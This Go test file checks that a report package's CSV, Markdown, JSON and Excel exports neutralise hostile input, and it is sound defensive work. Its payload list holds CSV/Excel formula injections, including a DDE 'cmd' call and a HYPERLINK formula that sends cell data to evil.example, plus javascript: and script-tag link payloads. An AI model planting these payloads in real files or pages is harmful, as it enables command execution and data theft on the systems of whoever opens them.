package report

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
)

// nasty are texts that some form could take for something else than text.
func nasty() []string {
	return slices.Concat(payloads(), []string{
		`=cmd|' /C calc'!A0`, `+1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", `"=1+1`, "'=1+1", "\ufeff=1+1", "\x00=1+1",
		"＝1+1", "＠SUM(1)", `=HYPERLINK("http://evil.example/?"&A1,"x")`, `=IMPORTXML("http://evil.example","//a")`, `=WEBSERVICE("http://evil.example")`, "a;=1+1", "a\t=1+1",
		"| a | b |", "|---|---|", `a \| b`, "`code` ```", "[x](javascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "![x](http://evil.example/p.png)", "<http://evil.example>",
		"javascript://evil.example/%0aalert(1)", "[x]: javascript:alert(1)", "# heading", "a\n# heading", "a\n\n| b |\n|---|", "- item", "1. item", "> quote", "---", "***", "~~~", "<!-- x", "<details>", "&lt;b&gt; &#60;b&#62;",
		"a\x01\x02\x1b[31mb", "a\x7fb\u0085c", "a\xff\xfeb", "\xed\xa0\x80 lone surrogate", "\xed\xbf\xbf", "\uFFFE\uFFFF", strings.Repeat("long ", 8_000), strings.Repeat("\U0001F600", 20_000),
		"\u202ertl\u202c", "\u200f=1+1", "\u2066isolate\u2069", "\u05d0\u05d1=1", "_x0041_ _x000D_", "]]>", `"quoted", "twice"`, "@everyone", "a@b.example", "www.evil.example", "://", "", " ",
	})
}

// strewn is an input that has the texts in every field that a form writes, names from the vocabulary too.
func strewn(t *testing.T, ps []string) Input {
	t.Helper()
	in := laden(t, ps)
	in.Every = in.Evidence
	at := 0
	next := func() string { at++; return ps[at%len(ps)] }
	x := in.Result
	for i := range x.Services {
		x.Services[i].Name, x.Services[i].State, x.Services[i].Was = next(), next(), []string{next()}
	}
	for i := range x.Skills {
		x.Skills[i].Name = next()
	}
	for i := range x.Platforms {
		x.Platforms[i].Name = next()
	}
	for i := range x.Fits {
		f := &x.Fits[i]
		f.Name, f.Level, f.Warning, f.Retires = next(), next(), next(), next()
		for j := range f.Missing {
			f.Missing[j].Name = next()
		}
	}
	for i := range x.Warnings {
		x.Warnings[i].Text = next()
	}
	return in
}

// lists reads the lists of texts that people who break pages have collected, four hundred at a time.
func lists(t *testing.T) [][]string {
	t.Helper()
	root := filepath.Join("..", "..", "..", "shared", "corpus", "hostile")
	var all []string
	naughty, err := os.ReadFile(filepath.Join(root, "strings", "blns.json"))
	if errors.Is(err, fs.ErrNotExist) {
		t.Log("the lists of hostile texts are not here: only our own are tried")
		return nil
	}
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(naughty, &all); err != nil {
		t.Fatal(err)
	}
	files, err := filepath.Glob(filepath.Join(root, "xss", "*.txt"))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		body, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, strings.Split(strings.TrimRight(string(body), "\n"), "\n")...)
	}
	t.Logf("%d texts of %d lists", len(all), len(files)+1)
	return slices.Collect(slices.Chunk(all, 400))
}

func TestExportsKeepHostileTextText(t *testing.T) {
	for i, ps := range append([][]string{nasty()}, lists(t)...) {
		if len(ps) < 4 {
			continue
		}
		in := strewn(t, ps)
		safeCSV(t, write(t, asCSV, in))
		safeMarkdown(t, string(write(t, asMD, in)))
		safeJSON(t, write(t, asJSON, in), in)
		safeXLSX(t, write(t, asXLSX, in), in)
		if t.Failed() {
			t.Fatalf("with list %d", i)
		}
	}
}

// A field of CSV parses back, and none begins like a formula.
func safeCSV(t *testing.T, body []byte) {
	t.Helper()
	if !utf8.Valid(body) {
		t.Error("CSV is not UTF-8")
	}
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll() // refuses lines with more or fewer fields than the head
	if err != nil {
		t.Errorf("CSV does not parse: %v", err)
	}
	for _, record := range records {
		for _, f := range record {
			if lead := strings.TrimLeft(f, " \"\u00a0\ufeff"); lead != "" && strings.ContainsRune("=+-@\t\r\n\x00＝＋－＠", []rune(lead)[0]) {
				t.Errorf("CSV field %.60q could be a formula", f)
			}
		}
	}
}

// Markdown has our headings and no others, tables of even rows, no markup of HTML, and nothing that becomes a link.
func safeMarkdown(t *testing.T, md string) {
	t.Helper()
	for _, bad := range []string{"<", "](", "]:", "://", "\x00", "\r"} {
		if strings.Contains(strings.NewReplacer(`\]`, "").Replace(md), bad) {
			t.Errorf("Markdown holds %q", bad)
		}
	}
	heading := regexp.MustCompile(`^## (Platforms|Certifications|Services|Skills|Tools|What this rests on)$`)
	bare := regexp.MustCompile("(^|[^\\\\])(\\\\\\\\)*([`*_\\[\\]~])")
	mention := regexp.MustCompile(`@[^\x{200b}]`)
	columns, titles := 0, 0
	for line := range strings.Lines(md) {
		line = strings.TrimSuffix(line, "\n")
		switch {
		case strings.HasPrefix(line, "# "):
			titles++
		case strings.HasPrefix(line, "#") && !heading.MatchString(line):
			t.Errorf("Markdown has a heading of its own: %.80q", line)
		}
		cells := bars(line)
		switch {
		case !strings.HasPrefix(line, "|"):
			columns = 0
		case columns == 0:
			columns = cells
		case cells != columns:
			t.Errorf("Markdown row has %d bars, want the %d of its table: %.200q", cells, columns, line)
		}
		if bare.MatchString(line) && !strings.HasPrefix(line, "|---") || mention.MatchString(line) {
			t.Errorf("Markdown line %.200q has markup or a mention", line)
		}
	}
	if titles != 1 {
		t.Errorf("Markdown has %d titles, want one", titles)
	}
}

// bars counts what separates the cells of a row; a backslash takes the character behind it out of the count.
func bars(line string) (n int) {
	escaped := false
	for _, r := range line {
		if r == '|' && !escaped {
			n++
		}
		escaped = r == '\\' && !escaped
	}
	return n
}

// JSON gives back every text; only what is no UTF-8 is replaced.
func safeJSON(t *testing.T, body []byte, in Input) {
	t.Helper()
	var e Export
	if err := json.Unmarshal(body, &e); err != nil || !utf8.Valid(body) {
		t.Fatalf("JSON does not parse: %v", err)
	}
	for i, p := range e.Postings {
		row := in.Rows[i]
		for _, x := range [][2]string{{p.Title, row.Title}, {p.Employer, row.Employer}, {p.Location, row.Location}, {p.Salary.Currency, row.Salary.Currency}, {p.URL, in.Origins[i].URL}} {
			if want := string([]rune(x[1])); x[0] != want {
				t.Errorf("JSON gives %.60q, want %.60q", x[0], want)
			}
		}
	}
}

// A workbook opens, has no formula, says every text up to a cell's limit, marks what looks like a formula as text, and
// links to the web only.
func safeXLSX(t *testing.T, body []byte, in Input) {
	t.Helper()
	noFormulas(t, body)
	f := workbook(t, body)
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatalf("sheet %s: %v", name, err)
		}
		for y, row := range rows[1:] {
			for x, text := range row {
				if guard(text) == text || isNumber(text) {
					continue
				}
				cell, _ := excelize.CoordinatesToCellName(x+1, y+2)
				id, err := f.GetCellStyle(name, cell)
				if err != nil {
					t.Fatal(err)
				}
				if q := f.Styles.CellXfs.Xf[id].QuotePrefix; q == nil || !*q {
					t.Errorf("%s %s %.60q is not marked as text", name, cell, text)
				}
			}
		}
		switch name {
		case "Postings":
			for i, row := range New(in).b.Newest() {
				if got := at(rows[i+1], 1); got != cellText(row.Title) {
					t.Errorf("posting %d is called %.60q, want %.60q", row.Posting, got, cellText(row.Title))
				}
			}
		case "Evidence":
			for i, e := range in.Every {
				if got := at(rows[i+1], 0); got != cellText(e.Sentence) {
					t.Errorf("sentence %d is %.60q, want %.60q", i, got, cellText(e.Sentence))
				}
			}
		}
	}
}

// at is a cell of a row; rows end with their last cell that is not empty.
func at(row []string, i int) string {
	if i < len(row) {
		return row[i]
	}
	return ""
}

// isNumber tells our own figures from text: "-0.5" would be one.
func isNumber(s string) bool { return json.Unmarshal([]byte(s), new(float64)) == nil }

// noFormulas looks into every part of a workbook: no element is a formula, and no relation leads out but to the web.
func noFormulas(t *testing.T, body []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		d := xml.NewDecoder(r)
		for {
			token, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", part.Name, err)
			}
			e, ok := token.(xml.StartElement)
			if ok && e.Name.Local == "f" {
				t.Errorf("%s holds a formula", part.Name)
			}
			if !ok || e.Name.Local != "Relationship" {
				continue
			}
			values := map[string]string{}
			for _, a := range e.Attr {
				values[a.Name.Local] = a.Value
			}
			if values["TargetMode"] == "External" && !strings.HasPrefix(values["Target"], "http://") && !strings.HasPrefix(values["Target"], "https://") {
				t.Errorf("%s leads to %.80q", part.Name, values["Target"])
			}
		}
		if err := r.Close(); err != nil {
			t.Error(err)
		}
	}
}
